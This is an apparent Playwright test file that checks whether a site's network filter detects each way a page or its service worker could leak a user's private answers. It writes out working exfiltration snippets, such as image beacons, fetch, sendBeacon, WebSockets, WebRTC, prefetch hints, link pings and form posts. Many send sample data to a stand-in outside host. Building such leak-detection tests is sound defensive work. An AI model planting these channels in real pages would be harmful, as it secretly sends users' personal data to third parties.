// The filter of `support/silence.ts` is worth something: each way of telling others an answer, done
// in a page of the site or in its worker, is noticed.
import { type BrowserContext, type Page, expect, test } from "@playwright/test";

import { open } from "./journeys/conversation";
import { storedForOffline } from "./support/page";
import { type Silence, listen } from "./support/silence";

interface Leak {
  by: string;
  /** Tries to leave the page. */
  leaves?: boolean;
  leak: (page: Page, context: BrowserContext) => Promise<unknown>;
  /** What the filter says of it. */
  told: RegExp;
}

const ELSEWHERE = "https://answers.example.org";

/** Runs in the page, with something of the site's to ask for. */
const inPage = (leak: (words: { elsewhere: string; file: string }) => void) => async (page: Page) => {
  const file = await page.locator("link[data-asset=rules]").evaluate((link: HTMLLinkElement) => link.href);
  // Where the policy wants trust, the attempt itself fails.
  await page.evaluate(leak, { elsewhere: ELSEWHERE, file }).catch((error: Error) => {
    if (!error.message.includes("Trusted")) throw error;
  });
};

const LEAKS: Leak[] = [
  { by: "a picture from elsewhere", told: /answers\.example\.org/, leak: inPage(({ elsewhere }) => { new Image().src = `${elsewhere}/a?birth=1961`; }) },
  { by: "asking elsewhere", told: /stopped by the policy: connect-src|elsewhere/, leak: inPage(({ elsewhere }) => { void fetch(`${elsewhere}/a?birth=1961`).catch(() => {}); }) },
  { by: "the query of a file of the site", told: /more than a path: GET .*\?birth=1961/, leak: inPage(({ file }) => { void fetch(`${file}?birth=1961`); }) },
  { by: "the query of a picture of the site", told: /more than a path: GET .*\?birth=1961/, leak: inPage(() => { new Image().src = "/icons/mark.svg?birth=1961"; }) },
  { by: "a name that no file has", told: /no file of the site|stopped by the policy/, leak: inPage(() => { void fetch("/birth-1961").catch(() => {}); }) },
  { by: "a name among the files", told: /no file of the site: GET .*words-1961/, leak: inPage(() => { void fetch("/assets/words-1961-05-04.txt"); }) },
  { by: "asking for a page", leaves: true, told: /no file of the site: GET .*single/, leak: inPage(() => { location.href = "/en/q/single"; }) },
  { by: "the address of a page", leaves: true, told: /an address of no page: .*1961/, leak: inPage(() => { history.pushState(null, "", "/en/q/birth-date?year=1961"); }) },
  { by: "a word in the address of a page", leaves: true, told: /an address of no page: .*widowed/, leak: inPage(() => { history.replaceState(null, "", "/en/results/widowed"); }) },
  { by: "a body", told: /not to read: POST/, leak: inPage(({ file }) => { void fetch(file, { method: "POST", body: "1961" }).catch(() => {}); }) },
  { by: "a method", told: /not to read: (DELETE|HEAD)/, leak: inPage(({ file }) => { void fetch(file, { method: "DELETE" }).catch(() => {}); }) },
  { by: "an old kind of request", told: /more than a path/, leak: inPage(({ file }) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${file}?birth=1961`);
    request.send();
  }) },
  { by: "a beacon to the site", told: /sent: beacon/, leak: inPage(({ file }) => { navigator.sendBeacon(`${file}?birth=1961`, "1961"); }) },
  { by: "a beacon elsewhere", told: /sent: beacon https:\/\/answers/, leak: inPage(({ elsewhere }) => { navigator.sendBeacon(elsewhere, "1961"); }) },
  { by: "a socket to the site", told: /made: WebSocket ws:/, leak: inPage(() => { new WebSocket(`ws://${location.host}/?birth=1961`); }) },
  { by: "a socket elsewhere", told: /made: WebSocket wss:/, leak: inPage(() => { new WebSocket("wss://answers.example.org/?birth=1961"); }) },
  { by: "a stream of events", told: /made: EventSource/, leak: inPage(() => { new EventSource("/assets/?birth=1961"); }) },
  { by: "a call", told: /made: RTCPeerConnection/, leak: inPage(() => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:answers.example.org" }] });
    call.createDataChannel("birth-1961");
    void call.createOffer().then((offer) => call.setLocalDescription(offer)).catch(() => {});
  }) },
  { by: "a transport", told: /made: WebTransport/, leak: inPage(() => { void new WebTransport("https://answers.example.org/").ready.catch(() => {}); }) },
  ...["dns-prefetch", "preconnect", "prefetch", "prerender"].map((rel) => ({
    by: `a hint: ${rel}`,
    told: new RegExp(`hint: ${rel} https://single`),
    leak: (page: Page) => page.evaluate((rel) => {
      document.head.append(Object.assign(document.createElement("link"), { rel, href: "https://single.example.org" }));
    }, rel),
  })),
  { by: "a hint that was something else before", told: /hint: dns-prefetch .*changed\.example/, leak: inPage(() => {
    const link = document.querySelector("link[data-asset]") as HTMLLinkElement;
    Object.assign(link, { rel: "dns-prefetch", href: "//changed.example.org" });
  }) },
  { by: "rules of what to fetch ahead", told: /hint: .*prefetch|policy: require-trusted-types-for/, leak: inPage(() => {
    const text = JSON.stringify({ prefetch: [{ urls: ["/en/?birth=1961"] }] });
    document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", text }));
  }) },
  { by: "a link that calls home", told: /hint: ping/, leak: inPage(({ elsewhere }) => {
    document.body.append(Object.assign(document.createElement("a"), { href: "#", ping: `${elsewhere}/?1961` }));
  }) },
  { by: "a form", leaves: true, told: /policy: form-action|elsewhere|not to read/, leak: inPage(({ elsewhere }) => {
    const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
    document.body.append(form);
    form.submit();
  }) },
  { by: "a frame", told: /policy: frame-src|elsewhere/, leak: inPage(({ elsewhere }) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere }));
  }) },
  { by: "a script", told: /policy: (script-src|require-trusted-types-for)|elsewhere/, leak: inPage(({ elsewhere }) => {
    document.head.append(Object.assign(document.createElement("script"), { src: elsewhere }));
  }) },
  { by: "styles", told: /policy: style-src|elsewhere/, leak: inPage(({ elsewhere }) => {
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: elsewhere }));
  }) },
  { by: "going elsewhere", leaves: true, told: /elsewhere: GET https:\/\/answers/, leak: inPage(({ elsewhere }) => { location.href = `${elsewhere}/?birth=1961`; }) },
  { by: "another window", told: /elsewhere: GET https:\/\/answers/, leak: inPage(({ elsewhere }) => { window.open(`${elsewhere}/?birth=1961`); }) },
  { by: "a worker", told: /made: Worker|a worker/, leak: inPage(() => { new Worker("/assets/later.js?birth=1961"); }) },
  { by: "a word to the service worker", told: /said to the worker: .*1961/, leak: inPage(() => { navigator.serviceWorker.controller?.postMessage({ birth: 1961 }); }) },
  { by: "the service worker, of a file", told: /more than a path: GET .*\(service worker\)/, leak: (_, context) => inWorker(context, "/icons/mark.svg?birth=1961") },
  { by: "the service worker, elsewhere", told: /elsewhere|stopped by the policy, in the worker/, leak: (_, context) => inWorker(context, ELSEWHERE) },
  { by: "a socket of the service worker", told: /made, in the worker: WebSocket/, leak: async (_, context) => {
    const [worker] = context.serviceWorkers();
    await worker.evaluate(() => void new WebSocket(`ws://${location.host}/?birth=1961`));
  } },
];

async function inWorker(context: BrowserContext, address: string): Promise<void> {
  const [worker] = context.serviceWorkers();
  await worker.evaluate((address) => fetch(address, { mode: "no-cors" }).then(() => {}, () => {}), address);
}

// One page is enough for all of them, one after the other.
test.describe.configure({ mode: "default" });

let page: Page;
let silence: Silence;
let left = true;

/** A page of the site, anew where the last leak led away from it. */
async function atHome(): Promise<void> {
  if (!left) return;
  left = false;
  // Where a leak was stopped on its way out, Chromium may never say that it stays.
  const context = page.context();
  await page.close();
  page = await context.newPage();
  await open(page, "en", "questions");
  await storedForOffline(page);
  expect(await silence.broken()).toEqual([]);
}

test.beforeAll(async ({ browser, baseURL }) => {
  const context = await browser.newContext({ baseURL });
  silence = await listen(context, baseURL ?? "");
  page = await context.newPage();
});

test.afterAll(() => page.context().close());

for (const { by, leak, told, leaves } of LEAKS) {
  test(`the filter notices a leak by ${by}`, async () => {
    await atHome();
    left = leaves ?? false;
    await leak(page, page.context());
    const found: string[] = [];
    const all = async () => {
      found.push(...await silence.broken());
      return found.join("\n");
    };
    await expect.poll(all, { timeout: 10_000 }).toMatch(told);
    // What else comes of it is not the next one's.
    await expect(async () => expect(await silence.broken()).toEqual([])).toPass();
  });
}
